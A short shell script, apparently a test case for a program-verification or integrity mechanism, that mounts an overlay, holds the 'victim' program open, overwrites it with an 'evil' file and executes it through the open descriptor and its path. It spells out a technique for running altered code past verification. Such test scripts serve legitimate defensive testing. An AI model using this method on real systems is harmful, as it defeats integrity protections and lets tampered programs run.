# shellcheck shell=sh disable=SC2154
#
# overlay-mapped - change a verified program through an overlay while it is open
#
# SPDX-License-Identifier: MIT

mkdir -p /tmp/upper2 /tmp/work2 /tmp/over2
mount -t overlay -o lowerdir=/attack,upperdir=/tmp/upper2,workdir=/tmp/work2 none /tmp/over2
exec 5</tmp/over2/victim
cat "$evil" >/tmp/over2/victim
/proc/self/fd/5
/tmp/over2/victim
exec 5<&-
umount /tmp/over2
